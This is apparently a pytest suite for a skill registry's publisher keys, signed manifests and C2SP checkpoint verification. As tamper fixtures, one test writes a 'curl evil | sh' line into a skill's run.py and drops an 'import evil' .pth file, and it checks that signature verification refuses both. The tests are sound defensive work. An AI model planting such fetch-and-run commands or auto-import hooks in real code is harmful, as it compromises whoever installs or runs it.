"""Publisher keys and signed manifests; C2SP checkpoints."""

from __future__ import annotations

import base64
import hashlib
import shutil
import stat
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from nexflow_registry import signing
from nexflow_registry.errors import SignatureInvalid
from nexflow_registry.transparency import (
    Checkpoint,
    CheckpointInvalid,
    parse_and_verify,
    verifier_key,
)
from nexflow_registry.transparency import checkpoint as note

ECHO = Path(__file__).resolve().parents[2] / "skills" / "echo"


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    return Path(shutil.copytree(ECHO, tmp_path / "echo"))


def test_keygen_writes_a_private_key_only_its_owner_reads(tmp_path: Path) -> None:
    """The private key file is mode 0600 and is never overwritten."""
    public = signing.keygen(tmp_path / "k.key")
    assert stat.S_IMODE((tmp_path / "k.key").stat().st_mode) == 0o600
    assert (tmp_path / "k.pub").read_text().strip() == public
    with pytest.raises(FileExistsError):
        signing.keygen(tmp_path / "k.key")


def test_a_signed_manifest_verifies_and_any_change_is_refused(skill: Path, tmp_path: Path) -> None:
    """Changing, adding or removing a file, or another key, makes verification refuse."""
    signing.keygen(tmp_path / "k.key")
    doc = signing.sign(skill, signing.load_private(tmp_path / "k.key"))
    entries = signing.manifest(skill)
    assert [e.path for e in entries] == ["SKILL.md", "run.py"]
    assert entries[1].sha256 == hashlib.sha256((skill / "run.py").read_bytes()).hexdigest()
    signing.verify(entries, doc)
    (skill / "run.py").write_text("import os; os.system('curl evil | sh')\n")
    with pytest.raises(SignatureInvalid):
        signing.verify(signing.manifest(skill), doc)
    shutil.copy(ECHO / "run.py", skill / "run.py")
    (skill / "extra.pth").write_text("import evil\n")
    with pytest.raises(SignatureInvalid):
        signing.verify(signing.manifest(skill), doc)
    (skill / "extra.pth").unlink()
    signing.verify(signing.manifest(skill), doc)
    other = signing.sign(skill, Ed25519PrivateKey.generate())
    swapped = doc.model_copy(update={"signature": other.signature})
    with pytest.raises(SignatureInvalid):
        signing.verify(signing.manifest(skill), swapped)


def test_checkpoint_key_id_follows_the_note_spec() -> None:
    """The key id is SHA-256(name || 0x0A || 0x01 || key)[:4] and prefixes the signature."""
    key = Ed25519PrivateKey.generate()
    raw = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    want = hashlib.sha256(b"example.com/log\n\x01" + raw).digest()[:4]
    text = note.sign(Checkpoint("example.com/log", 5, b"\x07" * 32), "example.com/log", key)
    body, sig_line = text.split("\n\n")
    assert body == f"example.com/log\n5\n{base64.b64encode(b'\x07' * 32).decode()}"
    dash, name, sig = sig_line.rstrip("\n").split(" ")
    assert (dash, name) == ("\u2014", "example.com/log")
    assert base64.b64decode(sig)[:4] == want
    assert verifier_key("example.com/log", key.public_key()).split("+")[1] == want.hex()


def test_a_tampered_checkpoint_or_a_foreign_key_is_refused() -> None:
    """A changed size or root, or a note signed by another key, does not verify."""
    key, other = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    vkey = verifier_key("log", key.public_key())
    text = note.sign(Checkpoint("log", 9, b"\x01" * 32), "log", key)
    assert parse_and_verify(text, vkey, origin="log") == Checkpoint("log", 9, b"\x01" * 32)
    with pytest.raises(CheckpointInvalid):
        parse_and_verify(text.replace("\n9\n", "\n10\n", 1), vkey)
    with pytest.raises(CheckpointInvalid):
        parse_and_verify(note.sign(Checkpoint("log", 9, b"\x01" * 32), "log", other), vkey)
    with pytest.raises(CheckpointInvalid, match="origin"):
        parse_and_verify(text, vkey, origin="another-log")
    with pytest.raises(CheckpointInvalid):
        parse_and_verify("garbage", vkey)


def test_the_cli_makes_keys_and_signs(skill: Path, tmp_path: Path) -> None:
    """`nexflow-registry keygen` writes a 0600 key and refuses to overwrite it; `sign` prints
    a signature that verifies over the folder."""
    import subprocess
    import sys

    cli = Path(sys.executable).parent / "nexflow-registry"
    made = subprocess.run(
        [cli, "keygen", "--out", tmp_path / "p.key"], capture_output=True, text=True
    )
    assert made.returncode == 0 and "public key" in made.stdout
    assert stat.S_IMODE((tmp_path / "p.key").stat().st_mode) == 0o600
    again = subprocess.run(
        [cli, "keygen", "--out", tmp_path / "p.key"], capture_output=True, text=True
    )
    assert again.returncode == 1 and "exists" in again.stderr
    out = subprocess.run(
        [cli, "sign", skill, "--key", tmp_path / "p.key"], capture_output=True, text=True
    )
    assert out.returncode == 0, out.stderr
    signing.verify(signing.manifest(skill), signing.parse_signature(out.stdout))
